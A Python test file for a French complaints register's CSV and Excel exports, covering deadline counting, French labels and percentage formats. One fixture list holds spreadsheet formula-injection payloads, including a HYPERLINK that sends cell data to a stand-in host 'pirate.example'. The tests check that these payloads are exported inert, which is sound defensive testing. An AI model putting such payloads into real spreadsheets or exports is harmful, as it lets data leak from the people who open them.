"""The register's files as compliance opens them (rules 13 and 17), read back from real
databases (SQLite and PostgreSQL) through the real export paths: no text a person typed runs
as a formula (OWASP, CSV injection); the figures count what the law counts, in French."""

import csv
import io
from datetime import date, datetime

from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from reclamations.activities.exports import register_csv, register_xlsx, statistics_csv
from reclamations.activities.records import RecordActivities
from reclamations.cli.main import main
from reclamations.db.register import register_lines
from reclamations.domain.actions import Answer, Qualify
from reclamations.domain.entities import DEFAULT_ENTITIES
from reclamations.domain.register import Lists
from reclamations.domain.typology import DEFAULT_TYPOLOGY
from reclamations.workflows.messages import RecordInput
from tests.activities.conftest import NOW, a_complaint
from tests.activities.test_register import record_three

LISTS = Lists(DEFAULT_TYPOLOGY, DEFAULT_ENTITIES)
AS_OF = date(2027, 6, 1)
# What a spreadsheet would run: a formula, a sign, a function call, and the cell breakers.
FORMULAS = [
    '=HYPERLINK("https://pirate.example/?d="&A1,"Voir")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
# XML reads a carriage return back as a line feed: how a workbook gives them back.
IN_XLSX = ["'" + text.replace("\r", "\n") for text in FORMULAS]
DEADLINE_COLUMNS = [
    "accusé de réception à temps",
    "engagement qualité tenu",
    "date annoncée tenue",
    "délai de 2 mois tenu",
]


async def record(sessions, keyring, *complaints):
    write = RecordActivities(sessions, keyring).record
    for complaint in complaints:
        await write(RecordInput(complaint=complaint, events=complaint.events, at=NOW))


async def record_managing_bodies(sessions, keyring):
    """One complaint per formula, each typed in by an agent as the managing body."""
    complaints = []
    for number, body in enumerate(FORMULAS, start=1):
        complaint = a_complaint(f"REC-{number}")
        complaint.apply(Qualify(actor="a", managing_body="Gestion Sud"), NOW)
        # A value is stripped at the door; the record keeps what the typology holds.
        complaint.classification = complaint.classification.model_copy(
            update={"managing_body": body}
        )
        complaints.append(complaint)
    await record(sessions, keyring, *complaints)


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def workbook(content):
    return load_workbook(io.BytesIO(content))


def register_sheet(book):
    header, *rows = book["Registre"].iter_rows()
    titles = [cell.value for cell in header]
    return [dict(zip(titles, row, strict=True)) for row in rows]


async def test_text_typed_by_people_never_becomes_a_formula(sessions, keyring):
    await record_managing_bodies(sessions, keyring)
    lines = await register_lines(sessions)
    rows = csv_rows(register_csv(lines, AS_OF, LISTS))
    assert [row["organisme gestionnaire"] for row in rows] == [f"'{text}" for text in FORMULAS]
    book = workbook(register_xlsx(lines, AS_OF, LISTS, "2026"))
    cells = [row["organisme gestionnaire"] for row in register_sheet(book)]
    assert [cell.value for cell in cells] == IN_XLSX
    assert {cell.data_type for cell in cells} == {"s"}
    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in every if cell.data_type == "f"] == []


def test_the_command_line_exports_no_formula(tmp_path, monkeypatch, capsys, keyring):
    import asyncio

    from reclamations.db.engine import create_engine, session_factory
    from reclamations.db.migrate import upgrade

    url = f"sqlite+aiosqlite:///{tmp_path / 'register.db'}"

    async def prepare():
        engine = create_engine(url)
        await upgrade(engine)
        await record_managing_bodies(session_factory(engine), keyring)
        await engine.dispose()

    asyncio.run(prepare())
    monkeypatch.setenv("RECLAMATIONS_DATABASE_URL", url)
    assert main(["register"]) == 0
    bodies = [row["organisme gestionnaire"] for row in csv_rows(capsys.readouterr().out)]
    assert bodies == [f"'{text}" for text in FORMULAS]
    output = tmp_path / "registre.xlsx"
    assert main(["register", "--format", "xlsx", "--output", str(output)]) == 0
    book = load_workbook(output)
    cells = [row["organisme gestionnaire"] for row in register_sheet(book)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(t, "s") for t in IN_XLSX]


async def test_handling_time_and_two_months_count_from_the_first_written_complaint(
    sessions, keyring
):
    # Forwarded late by the managing body: written on 20 September, sent on to us on
    # 8 November, answered on the 27th, 19 days after the sending but past the 2 months.
    forwarded = a_complaint(
        "REC-9",
        channel="managing_body",
        sent_on="2026-11-08",
        first_written_on="2026-09-20",
    )
    forwarded.apply(Answer(actor="a", decision="rejected", reasons="Contrat clair."), NOW)
    # rule 13: the answer counts from the day its letter left.
    forwarded.letter_sent(forwarded.pending_letters[-1], "outbox/answer-1.eml", NOW)
    await record(sessions, keyring, forwarded)
    [line] = await register_lines(sessions)
    assert line.final_due == date(2026, 11, 20)
    [row] = csv_rows(register_csv([line], AS_OF, LISTS))
    assert row["délai de réponse (jours)"] == "68"  # from 20 September, not 19 from the sending
    assert row["tranche de délai"] == "plus de 60 jours"
    assert row["délai de 2 mois tenu"] == "non"
    assert row["première réclamation écrite le"] == "2026-09-20"


async def test_a_request_requalified_has_no_deadline_to_keep(sessions, keyring):
    await record_three(sessions, keyring)
    await record(sessions, keyring, a_complaint("REC-8", channel="phone", sent_on="2026-10-01"))
    lines = await register_lines(sessions)
    rows = {row["référence"]: row for row in csv_rows(register_csv(lines, AS_OF, LISTS))}
    assert [rows["REC-2"][column] for column in DEADLINE_COLUMNS] == ["sans objet"] * 4
    assert [rows["REC-8"][column] for column in DEADLINE_COLUMNS] == ["sans objet"] * 4  # oral
    assert rows["REC-3"]["accusé de réception à temps"] == "non"  # a complaint: missed
    sheet = register_sheet(workbook(register_xlsx(lines, AS_OF, LISTS, "2026")))
    requalified = next(row for row in sheet if row["référence"].value == "REC-2")
    assert [requalified[column].value for column in DEADLINE_COLUMNS] == ["sans objet"] * 4


async def test_labels_are_french_never_codes(sessions, keyring):
    await record_three(sessions, keyring)
    lines = await register_lines(sessions)
    rows = {row["référence"]: row for row in csv_rows(register_csv(lines, AS_OF, LISTS))}
    first = rows["REC-1"]
    assert (first["canal"], first["catégorie"], first["statut"]) == (
        "courriel",
        "prestations",
        "répondue",
    )
    assert first["entité"] == DEFAULT_ENTITIES.default.identity.name
    assert rows["REC-2"]["statut"] == "requalifiée (pas une réclamation)"


async def test_the_workbooks_columns_are_wide_enough_to_read(sessions, keyring):
    await record_three(sessions, keyring)
    book = workbook(register_xlsx(await register_lines(sessions), AS_OF, LISTS, "2026"))
    for sheet in book:
        for number, column in enumerate(sheet.iter_cols(values_only=True), start=1):
            shown = [f"{v:%d/%m/%Y}" if isinstance(v, datetime) else str(v or "") for v in column]
            width = sheet.column_dimensions[get_column_letter(number)].width
            assert width >= min(max(map(len, shown)), 60), (sheet.title, column[0])


async def test_percentages_are_written_the_french_way(sessions, keyring):
    as_of = AS_OF
    await record_three(sessions, keyring)
    lines = await register_lines(sessions)
    total = csv_rows(statistics_csv(lines, as_of))[-1]
    assert total["accusés de réception dans les 10 jours ouvrables (%)"] == "50,0 %"
    assert total["réponses dans les 15 jours (%)"] == "50,0 %"
    sheet = workbook(register_xlsx(lines, as_of, LISTS, "2026"))["Statistiques"]
    header, *rows = sheet.iter_rows()
    titles = [cell.value for cell in header]
    cell = rows[-1][titles.index("réponses dans les 15 jours (%)")]
    assert cell.value == 0.5 and cell.number_format == "0.0 %"


def test_the_dashboard_elapsed_time_counts_from_the_first_written_complaint():
    from reclamations.domain.dashboard import dashboard
    from reclamations.domain.register import RegisterLine

    forwarded = RegisterLine(
        reference="LATE",
        channel="managing_body",
        category=None,
        status="in_progress",
        medical=False,
        sent_on=date(2027, 2, 20),
        first_written_on=date(2027, 1, 10),
        acknowledgement_due=date(2027, 3, 4),
        quality_target_due=date(2027, 3, 7),
        final_due=date(2027, 3, 10),
        acknowledged_on=None,
        first_answered_on=None,
        overdue=False,
    )
    # 50 of its 59 days gone since the first written complaint (9 of 18 since the sending).
    figures = dashboard([forwarded], date(2027, 3, 1), DEFAULT_TYPOLOGY)
    assert [(w.reference, w.elapsed_percent) for w in figures.near_deadline] == [("LATE", 85)]
